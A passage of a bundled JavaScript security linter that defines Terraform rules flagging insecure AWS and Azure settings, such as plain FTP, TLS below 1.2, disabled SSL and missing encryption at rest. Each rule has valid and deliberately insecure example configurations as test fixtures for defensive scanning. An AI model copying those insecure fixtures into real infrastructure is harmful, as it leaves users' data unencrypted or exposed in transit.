  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_s3_bucket_policy" "reports" {
  bucket = aws_s3_bucket.reports.id
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Sid       = "DenyInsecureTransport"
      Effect    = "Deny"
      Principal = "*"
      Action    = "s3:*"
      Resource  = ["arn:aws:s3:::acme-reports", "arn:aws:s3:::acme-reports/*"]
      Condition = { Bool = { "aws:SecureTransport" = "false" } }
    }]
  })
}
`
      },
      {
        name: "no bucket policy at all",
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "reports" {
  bucket = "acme-reports"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `data "aws_iam_policy_document" "reports" {
  statement {
    actions   = ["s3:GetObject"]
    resources = ["arn:aws:s3:::acme-reports/*"]
    principals {
      type        = "AWS"
      identifiers = ["arn:aws:iam::123456789012:role/reporting"]
    }
  }
}

resource "aws_s3_bucket_policy" "reports" {
  bucket = aws_s3_bucket.reports.id
  policy = data.aws_iam_policy_document.reports.json
}
`,
        errors: [{ line: 14, column: 3, messageIncludes: "aws:SecureTransport" }]
      }
    ]
  }
});
function deniesInsecureTransport(statement) {
  if (statement.effect !== "Deny") return false;
  return Object.entries(statement.conditions).some(
    ([operator, keys]) => /^bool(ifexists)?$/i.test(operator) && Object.entries(keys).some(([key, values]) => key.toLowerCase() === "aws:securetransport" && values.some((value) => value.toLowerCase() === "false"))
  );
}

// packages/rules/src/terraform/encryption/aws-s3-encryption-at-rest.ts
var SEPARATE_CONFIGURATION = "aws_s3_bucket_server_side_encryption_configuration";
var aws_s3_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-s3-encryption-at-rest",
    title: "S3 bucket without server-side encryption",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_s3_bucket"],
    description: "The bucket declares no server-side encryption, neither inline (`server_side_encryption_configuration`) nor through an `aws_s3_bucket_server_side_encryption_configuration` resource that refers to it. Objects then rely on the account default, and nothing in code shows which key protects them or who may use it.",
    remediation: 'Add an `aws_s3_bucket_server_side_encryption_configuration` for the bucket with `sse_algorithm = "aws:kms"` and a customer-managed key (or at least `AES256`).',
    precision: "high",
    cwe: ["CWE-311"],
    frameworks: { "CIS AWS Foundations 1.4.0": ["2.1.1"] },
    tags: ["s3", "encryption-at-rest"],
    references: ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/serv-side-encryption.html"]
  },
  check(bucket, { graph, report }) {
    if (asList(bucket.attributes.server_side_encryption_configuration).length > 0) return;
    const separate = graph.sources(bucket.id, "references").some((resource) => resource.type === SEPARATE_CONFIGURATION);
    if (separate) return;
    report({ message: `S3 bucket ${bucket.name} has no server-side encryption configuration` });
  },
  examples: {
    valid: [
      {
        name: "separate encryption resource",
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "logs" {
  bucket = "logs"
}

resource "aws_s3_bucket_server_side_encryption_configuration" "logs" {
  bucket = aws_s3_bucket.logs.id
  rule {
    apply_server_side_encryption_by_default {
      sse_algorithm = "aws:kms"
    }
  }
}
`
      },
      {
        name: "inline encryption block (AWS provider v3)",
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "logs" {
  bucket = "logs"
  server_side_encryption_configuration {
    rule {
      apply_server_side_encryption_by_default {
        sse_algorithm = "AES256"
      }
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "exports" {
  bucket = "exports"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-sagemaker-notebook-customer-managed-key.ts
var aws_sagemaker_notebook_customer_managed_key_default = defineRule({
  meta: {
    id: "aws-sagemaker-notebook-customer-managed-key",
    title: "SageMaker notebook volume not encrypted with a customer-managed KMS key",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_sagemaker_notebook_instance"],
    description: "Without `kms_key_id` the notebook's storage volume, which holds datasets, notebooks and cached credentials, is encrypted with an AWS-managed key whose use the account cannot restrict.",
    remediation: "Set `kms_key_id` to a customer-managed KMS key when creating the notebook instance.",
    precision: "medium",
    cwe: ["CWE-311"],
    tags: ["sagemaker", "kms", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/sagemaker/latest/dg/encryption-at-rest-nbi.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sagemaker_notebook_instance#kms_key_id"
    ]
  },
  check(notebook, { report }) {
    const key = notebook.attributes.kms_key_id;
    if (isUnknown(key) || !isUnset(key)) return;
    report({ message: `SageMaker notebook ${notebook.name} has no kms_key_id: its volume is not encrypted at rest with a customer-managed key` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_sagemaker_notebook_instance" "research" {
  name                   = "research"
  role_arn               = aws_iam_role.sagemaker.arn
  instance_type          = "ml.t3.medium"
  kms_key_id             = aws_kms_key.sagemaker.arn
  direct_internet_access = "Disabled"
  subnet_id              = aws_subnet.private.id
  security_groups        = [aws_security_group.notebook.id]
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_sagemaker_notebook_instance" "research" {
  name          = "research"
  role_arn      = aws_iam_role.sagemaker.arn
  instance_type = "ml.t3.medium"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-sns-topic-encryption-at-rest.ts
var aws_sns_topic_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-sns-topic-encryption-at-rest",
    title: "SNS topic not encrypted at rest (no KMS key)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_sns_topic"],
    description: "Without `kms_master_key_id` the topic does not use server-side encryption: messages waiting for delivery are stored without a KMS key, and access to them is not controlled or logged through a key policy.",
    remediation: "Set `kms_master_key_id` to a customer-managed KMS key (or at least `alias/aws/sns`), and allow the publishing services to use the key.",
    precision: "high",
    cwe: ["CWE-311"],
    tags: ["sns", "encryption-at-rest", "kms"],
    references: [
      "https://docs.aws.amazon.com/sns/latest/dg/sns-server-side-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sns_topic#kms_master_key_id"
    ]
  },
  check(topic, { report }) {
    const key = topic.attributes.kms_master_key_id;
    if (isUnknown(key) || !isUnset(key)) return;
    report({ message: `SNS topic ${topic.name} has no kms_master_key_id: messages are not encrypted at rest with server-side encryption` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_sns_topic" "alerts" {
  name              = "billing-alerts"
  kms_master_key_id = aws_kms_key.sns.id
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_sns_topic" "alerts" {
  name = "billing-alerts"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-sqs-queue-encryption-at-rest.ts
var aws_sqs_queue_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-sqs-queue-encryption-at-rest",
    title: "SQS queue server-side encryption turned off",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_sqs_queue"],
    description: "`sqs_managed_sse_enabled = false` with no `kms_master_key_id` turns off the encryption at rest that SQS applies to new queues by default, so queued messages are stored unencrypted.",
    remediation: "Remove `sqs_managed_sse_enabled = false`, or set `kms_master_key_id` to a customer-managed KMS key.",
    precision: "very-high",
    cwe: ["CWE-311"],
    tags: ["sqs", "encryption-at-rest", "sse"],
    references: [
      "https://docs.aws.amazon.com/AWSSimpleQueueService/latest/SQSDeveloperGuide/sqs-server-side-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sqs_queue#sqs_managed_sse_enabled"
    ]
  },
  check(queue, { report }) {
    const key = queue.attributes.kms_master_key_id;
    if (!isFalse(queue.attributes.sqs_managed_sse_enabled) || isUnknown(key) || !isUnset(key)) return;
    report({ at: ["sqs_managed_sse_enabled"], message: `SQS queue ${queue.name} is not encrypted at rest: SSE-SQS is turned off and no KMS key is set` });
  },
  examples: {
    valid: [
      {
        name: "SSE-SQS by default",
        filename: "main.tf",
        code: `resource "aws_sqs_queue" "orders" {
  name = "orders"
}
`
      },
      {
        name: "customer-managed key",
        filename: "main.tf",
        code: `resource "aws_sqs_queue" "orders" {
  name                    = "orders"
  sqs_managed_sse_enabled = false
  kms_master_key_id       = aws_kms_key.queues.id
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_sqs_queue" "orders" {
  name                    = "orders"
  sqs_managed_sse_enabled = false
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-transfer-server-plaintext-ftp.ts
var aws_transfer_server_plaintext_ftp_default = defineRule({
  meta: {
    id: "aws-transfer-server-plaintext-ftp",
    title: "Transfer Family server accepts plain FTP (no TLS)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_transfer_server"],
    description: "The server's `protocols` include `FTP`, which sends user names, passwords and file contents unencrypted. SFTP and FTPS protect both with encryption in transit.",
    remediation: "Remove `FTP` from `protocols` and offer `SFTP` or `FTPS` instead.",
    precision: "very-high",
    cwe: ["CWE-319"],
    tags: ["transfer-family", "ftp", "encryption-in-transit"],
    references: [
      "https://docs.aws.amazon.com/transfer/latest/userguide/create-server-ftp.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/transfer_server#protocols"
    ]
  },
  check(server, { report }) {
    const protocols = server.attributes.protocols;
    if (!Array.isArray(protocols)) return;
    const index = protocols.findIndex((protocol) => typeof protocol === "string" && protocol.toUpperCase() === "FTP");
    if (index >= 0) report({ at: ["protocols", index], message: `Transfer server ${server.name} accepts plaintext FTP: credentials and files are not encrypted in transit` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_transfer_server" "partners" {
  endpoint_type = "VPC"
  protocols     = ["SFTP", "FTPS"]
  certificate   = aws_acm_certificate.sftp.arn
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_transfer_server" "partners" {
  endpoint_type = "VPC"
  protocols     = ["SFTP", "FTP"]
}
`,
        errors: [{ line: 3, column: 28 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-app-service-ftp-allowed.ts
var azure_app_service_ftp_allowed_default = defineRule({
  meta: {
    id: "azure-app-service-ftp-allowed",
    title: "App Service allows plain FTP deployments (ftps_state AllAllowed)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: APP_SERVICE_TYPES,
    description: '`ftps_state = "AllAllowed"` accepts unencrypted FTP as well as FTPS, so deployment credentials and the site\'s code cross the network in plain text. Anyone who captures them can replace the application.',
    remediation: 'Set `site_config { ftps_state = "Disabled" }`, or `"FtpsOnly"` if FTP deployment is still needed, and deploy through zip deploy or a pipeline instead.',
    precision: "very-high",
    cwe: ["CWE-319"],
    tags: ["azure", "app-service", "ftp", "encryption-in-transit"],
    references: [
      "https://learn.microsoft.com/azure/app-service/deploy-ftp#enforce-ftps",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#ftps_state"
    ]
  },
  check(app, { report }) {
    const site = siteConfigOf(app.attributes);
    if (site?.config.ftps_state === "AllAllowed") {
      report({ at: ["site_config", site.index, "ftps_state"], message: `App ${app.name} allows unencrypted FTP deployments (ftps_state = "AllAllowed")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_windows_web_app" "cms" {
  name                = "app-cms"
  location            = "westeurope"
  resource_group_name = "rg-cms"
  service_plan_id     = azurerm_service_plan.cms.id
  https_only          = true

  site_config {
    ftps_state = "Disabled"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_windows_web_app" "cms" {
  name                = "app-cms"
  location            = "westeurope"
  resource_group_name = "rg-cms"
  service_plan_id     = azurerm_service_plan.cms.id
  https_only          = true

  site_config {
    ftps_state = "AllAllowed"
  }
}
`,
        errors: [{ line: 9, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-app-service-https-only.ts
var azure_app_service_https_only_default = defineRule({
  meta: {
    id: "azure-app-service-https-only",
    title: "App Service does not enforce HTTPS only",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: APP_SERVICE_TYPES,
    description: "Without `https_only = true` the app also answers plain HTTP, so session cookies, tokens and form data can be read or changed by anyone on the network path. The provider default is `false`.",
    remediation: "Set `https_only = true` so that App Service redirects every HTTP request to HTTPS.",
    precision: "very-high",
    cwe: ["CWE-319"],
    frameworks: { "CIS Microsoft Azure Foundations 2.0": ["9.2"] },
    tags: ["azure", "app-service", "https", "encryption-in-transit"],
    references: [
      "https://learn.microsoft.com/azure/app-service/configure-ssl-bindings#enforce-https",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#https_only"
    ]
  },
  check(app, { report }) {
    const httpsOnly = app.attributes.https_only;
    if (httpsOnly === false) report({ at: ["https_only"], message: `App ${app.name} accepts plain HTTP: HTTPS only is disabled (https_only = false)` });
    else if (httpsOnly === void 0) report({ message: `App ${app.name} accepts plain HTTP: https_only is not set and defaults to false` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_linux_web_app" "portal" {
  name                = "app-portal"
  location            = "westeurope"
  resource_group_name = "rg-portal"
  service_plan_id     = azurerm_service_plan.portal.id
  https_only          = true

  site_config {}
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_app_service" "portal" {
  name                = "app-portal"
  location            = "westeurope"
  resource_group_name = "rg-portal"
  app_service_plan_id = azurerm_app_service_plan.portal.id
  https_only          = false
}
`,
        errors: [{ line: 6, column: 3 }]
      },
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "azurerm_windows_web_app" "portal" {
  name                = "app-portal"
  location            = "westeurope"
  resource_group_name = "rg-portal"
  service_plan_id     = azurerm_service_plan.portal.id

  site_config {}
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-app-service-minimum-tls-version.ts
var TLS_ATTRIBUTES = ["min_tls_version", "minimum_tls_version", "scm_min_tls_version", "scm_minimum_tls_version"];
var azure_app_service_minimum_tls_version_default = defineRule({
  meta: {
    id: "azure-app-service-minimum-tls-version",
    title: "App Service minimum TLS version below 1.2",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: APP_SERVICE_TYPES,
    description: "The app (or its deployment site) accepts TLS 1.0 or 1.1, protocol versions with known weaknesses that are no longer allowed by PCI DSS and most security baselines.",
    remediation: 'Set `site_config { minimum_tls_version = "1.2" }` (`min_tls_version` on `azurerm_app_service`), or remove it to use the 1.2 default.',
    precision: "very-high",
    cwe: ["CWE-326"],
    frameworks: { "CIS Microsoft Azure Foundations 2.0": ["9.3"] },
    tags: ["azure", "app-service", "tls", "encryption-in-transit"],
    references: [
      "https://learn.microsoft.com/azure/app-service/overview-tls",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#minimum_tls_version"
    ]
  },
  check(app, { report }) {
    const site = siteConfigOf(app.attributes);
    if (!site) return;
    for (const attribute of TLS_ATTRIBUTES) {
      const version = site.config[attribute];
      if (allowsTlsBelow12(version)) {
        report({ at: ["site_config", site.index, attribute], message: `App ${app.name} accepts TLS versions below 1.2 (${attribute} = "${String(version)}")` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_linux_web_app" "checkout" {
  name                = "app-checkout"
  location            = "westeurope"
  resource_group_name = "rg-checkout"
  service_plan_id     = azurerm_service_plan.checkout.id
  https_only          = true

  site_config {
    minimum_tls_version = "1.2"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_app_service" "checkout" {
  name                = "app-checkout"
  location            = "westeurope"
  resource_group_name = "rg-checkout"
  app_service_plan_id = azurerm_app_service_plan.checkout.id
  https_only          = true

  site_config {
    min_tls_version = "1.0"
  }
}
`,
        errors: [{ line: 9, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-database-minimum-tls-version.ts
var TLS_ATTRIBUTE = {
  azurerm_mssql_server: "minimum_tls_version",
  azurerm_mysql_server: "ssl_minimal_tls_version_enforced",
  azurerm_postgresql_server: "ssl_minimal_tls_version_enforced",
  azurerm_mariadb_server: "ssl_minimal_tls_version_enforced"
};
var azure_database_minimum_tls_version_default = defineRule({
  meta: {
    id: "azure-database-minimum-tls-version",
    title: "Database server minimum TLS version below 1.2",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: Object.keys(TLS_ATTRIBUTE),
    description: "The server accepts TLS 1.0 or 1.1 (or no minimum at all), protocol versions with known weaknesses that allow downgrade attacks on client connections.",
    remediation: 'Set `minimum_tls_version = "1.2"` on SQL servers and `ssl_minimal_tls_version_enforced = "TLS1_2"` on MySQL, PostgreSQL and MariaDB servers.',
    precision: "very-high",
    cwe: ["CWE-326"],
    tags: ["azure", "database", "tls", "encryption-in-transit"],
    references: [
      "https://learn.microsoft.com/azure/azure-sql/database/connectivity-settings#minimal-tls-version",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server#minimum_tls_version"
    ]
  },
  check(server, { report }) {
    const attribute = TLS_ATTRIBUTE[server.type];
    const version = server.attributes[attribute];
    if (!allowsTlsBelow12(version)) return;
    if (server.attributes.ssl_enforcement_enabled === false && /disabled/i.test(String(version))) return;
    report({ at: [attribute], message: `Database server ${server.name} accepts TLS versions below 1.2 (${attribute} = "${String(version)}")` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_mssql_server" "crm" {
  name                          = "sql-crm"
  location                      = "westeurope"
  resource_group_name           = "rg-crm"
  version                       = "12.0"
  minimum_tls_version           = "1.2"
  public_network_access_enabled = false
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_mssql_server" "crm" {
  name                          = "sql-crm"
  location                      = "westeurope"
  resource_group_name           = "rg-crm"
  version                       = "12.0"
  minimum_tls_version           = "1.0"
  public_network_access_enabled = false
}
`,
        errors: [{ line: 6, column: 3 }]
      },
      {
        filename: "main.tf",
        code: `resource "azurerm_postgresql_server" "crm" {
  name                             = "psql-crm"
  location                         = "westeurope"
  resource_group_name              = "rg-crm"
  sku_name                         = "GP_Gen5_2"
  version                          = "11"
  ssl_enforcement_enabled          = true
  ssl_minimal_tls_version_enforced = "TLS1_1"
}
`,
        errors: [{ line: 8, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-database-ssl-enforcement-disabled.ts
var SERVERS = {
  azurerm_mysql_server: "MySQL server",
  azurerm_postgresql_server: "PostgreSQL server",
  azurerm_mariadb_server: "MariaDB server"
};
var SERVER_CONFIGURATIONS = {
  azurerm_mysql_flexible_server_configuration: "MySQL flexible server",
  azurerm_postgresql_flexible_server_configuration: "PostgreSQL flexible server"
};
var azure_database_ssl_enforcement_disabled_default = defineRule({
  meta: {
    id: "azure-database-ssl-enforcement-disabled",
    title: "Database server does not enforce SSL/TLS connections",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: [...Object.keys(SERVERS), ...Object.keys(SERVER_CONFIGURATIONS)],
    description: "The server accepts unencrypted client connections, so credentials and query results can cross the network in plain text and be read or altered in transit.",
    remediation: "Set `ssl_enforcement_enabled = true` on single servers; on flexible servers leave `require_secure_transport` at `ON`.",
    precision: "very-high",
    cwe: ["CWE-319"],
    frameworks: { "CIS Microsoft Azure Foundations 2.0": ["4.3.1", "4.4.1"] },
    tags: ["azure", "database", "tls", "encryption-in-transit"],
    references: [
      "https://learn.microsoft.com/azure/postgresql/single-server/concepts-ssl-connection-security",
      "https://learn.microsoft.com/azure/mysql/flexible-server/how-to-connect-tls-ssl",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/postgresql_server#ssl_enforcement_enabled"
    ]
  },
  check(resource, { report }) {
    const attributes = resource.attributes;
    if (resource.type in SERVERS) {
      if (attributes.ssl_enforcement_enabled === false) {
        report({ at: ["ssl_enforcement_enabled"], message: `${SERVERS[resource.type]} ${resource.name} does not enforce SSL: unencrypted connections are accepted (ssl_enforcement_enabled = false)` });
      }
      return;
    }
    if (typeof attributes.name !== "string" || attributes.name.toLowerCase() !== "require_secure_transport") return;
    if (typeof attributes.value === "string" && attributes.value.toLowerCase() === "off") {
      report({ at: ["value"], message: `${SERVER_CONFIGURATIONS[resource.type]} configuration ${resource.name} turns off require_secure_transport: unencrypted (non-TLS) connections are accepted` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_postgresql_server" "ledger" {
  name                             = "psql-ledger"
  location                         = "westeurope"
  resource_group_name              = "rg-ledger"
  sku_name                         = "GP_Gen5_2"
  version                          = "11"
  ssl_enforcement_enabled          = true
  ssl_minimal_tls_version_enforced = "TLS1_2"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_mysql_server" "ledger" {
  name                    = "mysql-ledger"
  location                = "westeurope"
  resource_group_name     = "rg-ledger"
  sku_name                = "GP_Gen5_2"
  version                 = "8.0"
  ssl_enforcement_enabled = false
}
`,
        errors: [{ line: 7, column: 3 }]
      },
      {
        name: "flexible server parameter",
        filename: "main.tf",
        code: `resource "azurerm_mysql_flexible_server_configuration" "transport" {
  name                = "require_secure_transport"
  resource_group_name = "rg-ledger"
  server_name         = azurerm_mysql_flexible_server.ledger.name
  value               = "OFF"
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-key-vault-purge-protection.ts
var azure_key_vault_purge_protection_default = defineRule({
  meta: {
    id: "azure-key-vault-purge-protection",
    title: "Key Vault without purge protection",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_key_vault"],
    description: "Without purge protection a deleted vault, or a deleted key or secret in it, can be purged immediately instead of staying recoverable for the retention period. An attacker or a mistaken pipeline can then destroy the keys that encrypt your data, making it unreadable for good.",
    remediation: "Set `purge_protection_enabled = true` (it cannot be turned off again) and keep `soft_delete_retention_days` at a period you can recover within.",
    precision: "very-high",
    cwe: ["CWE-693"],
    tags: ["azure", "key-vault", "key-management"],
    references: [
      "https://learn.microsoft.com/azure/key-vault/general/soft-delete-overview#purge-protection",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/key_vault#purge_protection_enabled"
    ]
  },
  check(vault, { report }) {
    const enabled = vault.attributes.purge_protection_enabled;
    if (enabled === false) report({ at: ["purge_protection_enabled"], message: `Key Vault ${vault.name} has purge protection disabled: deleted keys and secrets can be purged at once` });
    else if (enabled === void 0) report({ message: `Key Vault ${vault.name} does not enable purge protection (purge_protection_enabled is not set)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_key_vault" "payments" {
  name                       = "kv-payments"
  location                   = "westeurope"
  resource_group_name        = "rg-payments"
  tenant_id                  = var.tenant_id
  sku_name                   = "standard"
  soft_delete_retention_days = 90
  purge_protection_enabled   = true
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_key_vault" "payments" {
  name                = "kv-payments"
  location            = "westeurope"
  resource_group_name = "rg-payments"
  tenant_id           = var.tenant_id
  sku_name            = "standard"
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        filename: "main.tf",
        code: `resource "azurerm_key_vault" "payments" {
  name                     = "kv-payments"
  location                 = "westeurope"
  resource_group_name      = "rg-payments"
  tenant_id                = var.tenant_id
  sku_name                 = "standard"
  purge_protection_enabled = false
}
`,
        errors: [{ line: 7, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-managed-disk-encryption-disabled.ts
var azure_managed_disk_encryption_disabled_default = defineRule({
  meta: {
    id: "azure-managed-disk-encryption-disabled",
    title: "Managed disk with Azure Disk Encryption explicitly disabled",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_managed_disk"],
    description: "The disk's `encryption_settings` block turns Azure Disk Encryption off. The platform still encrypts the disk at rest with a Microsoft-managed key, but nothing encrypts it with keys you hold, so anyone able to export or snapshot the disk can read its contents.",
    remediation: "Remove the disabled `encryption_settings` block and encrypt the disk with a customer-managed key through `disk_encryption_set_id`, or configure `encryption_settings` with a Key Vault key.",
    precision: "high",
    cwe: ["CWE-311"],
    tags: ["azure", "managed-disk", "encryption-at-rest"],
    references: [
      "https://learn.microsoft.com/azure/virtual-machines/disk-encryption-overview",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/managed_disk#encryption_settings"
    ]
  },
  check(disk, { report }) {
    asList(disk.attributes.encryption_settings).forEach((settings, index) => {
      if (isObject(settings) && settings.enabled === false) {
        report({ at: ["encryption_settings", index, "enabled"], message: `Managed disk ${disk.name} has disk encryption explicitly disabled (encryption_settings.enabled = false)` });
      }
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_managed_disk" "data" {
  name                   = "disk-data"
  location               = "westeurope"
  resource_group_name    = "rg-data"
  storage_account_type   = "Premium_LRS"
  create_option          = "Empty"
  disk_size_gb           = 256
  disk_encryption_set_id = azurerm_disk_encryption_set.data.id
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_managed_disk" "data" {
  name                 = "disk-data"
  location             = "westeurope"
  resource_group_name  = "rg-data"
  storage_account_type = "Premium_LRS"
  create_option        = "Empty"
  disk_size_gb         = 256

  encryption_settings {
    enabled = false
  }
}
`,
        errors: [{ line: 10, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-redis-minimum-tls-version.ts
var azure_redis_minimum_tls_version_default = defineRule({
  meta: {
    id: "azure-redis-minimum-tls-version",
    title: "Azure Cache for Redis minimum TLS version below 1.2",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_redis_cache"],
    description: "The cache accepts TLS 1.0 or 1.1 connections, protocol versions with known weaknesses that Azure is retiring for Redis.",
    remediation: 'Set `minimum_tls_version = "1.2"`.',
    precision: "very-high",
    cwe: ["CWE-326"],
    tags: ["azure", "redis", "tls", "encryption-in-transit"],
    references: [
      "https://learn.microsoft.com/azure/azure-cache-for-redis/cache-remove-tls-10-11",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/redis_cache#minimum_tls_version"
    ]
  },
  check(cache, { report }) {
    const version = cache.attributes.minimum_tls_version;
    if (allowsTlsBelow12(version)) {
      report({ at: ["minimum_tls_version"], message: `Redis cache ${cache.name} accepts TLS versions below 1.2 (minimum_tls_version = "${String(version)}")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_redis_cache" "quotes" {
  name                = "redis-quotes"
  location            = "westeurope"
  resource_group_name = "rg-quotes"
  capacity            = 0
  family              = "C"
  sku_name            = "Basic"
  minimum_tls_version = "1.2"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_redis_cache" "quotes" {
  name                = "redis-quotes"
  location            = "westeurope"
  resource_group_name = "rg-quotes"
  capacity            = 0
  family              = "C"
  sku_name            = "Basic"
  minimum_tls_version = "1.0"
}
`,
        errors: [{ line: 8, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-redis-non-ssl-port.ts
var NON_SSL_ATTRIBUTES = ["enable_non_ssl_port", "non_ssl_port_enabled"];
var azure_redis_non_ssl_port_default = defineRule({
  meta: {
    id: "azure-redis-non-ssl-port",
    title: "Azure Cache for Redis non-SSL port enabled",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_redis_cache"],
    description: "The non-SSL port (6379) accepts unencrypted connections: the access key sent by clients and all cached data cross the network in plain text.",
    remediation: "Remove the setting or set `non_ssl_port_enabled = false` (`enable_non_ssl_port = false` before azurerm 4.0) and connect over TLS on port 6380.",
    precision: "very-high",
    cwe: ["CWE-319"],
    tags: ["azure", "redis", "tls", "encryption-in-transit"],
    references: [
      "https://learn.microsoft.com/azure/azure-cache-for-redis/cache-configure#access-ports",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/redis_cache#non_ssl_port_enabled"
    ]
  },
  check(cache, { report }) {
    for (const attribute of NON_SSL_ATTRIBUTES) {
      if (cache.attributes[attribute] === true) {
        report({ at: [attribute], message: `Redis cache ${cache.name} accepts unencrypted connections on the non-SSL port (${attribute} = true)` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_redis_cache" "sessions" {
  name                = "redis-sessions"
  location            = "westeurope"
  resource_group_name = "rg-web"
  capacity            = 1
  family              = "C"
  sku_name            = "Standard"
  minimum_tls_version = "1.2"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_redis_cache" "sessions" {
  name                = "redis-sessions"
  location            = "westeurope"
  resource_group_name = "rg-web"
  capacity            = 1
  family              = "C"
  sku_name            = "Standard"
  enable_non_ssl_port = true
}
`,
        errors: [{ line: 8, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-storage-https-only-disabled.ts
var HTTPS_ONLY_ATTRIBUTES = ["enable_https_traffic_only", "https_traffic_only_enabled"];
var azure_storage_https_only_disabled_default = defineRule({
  meta: {
    id: "azure-storage-https-only-disabled",
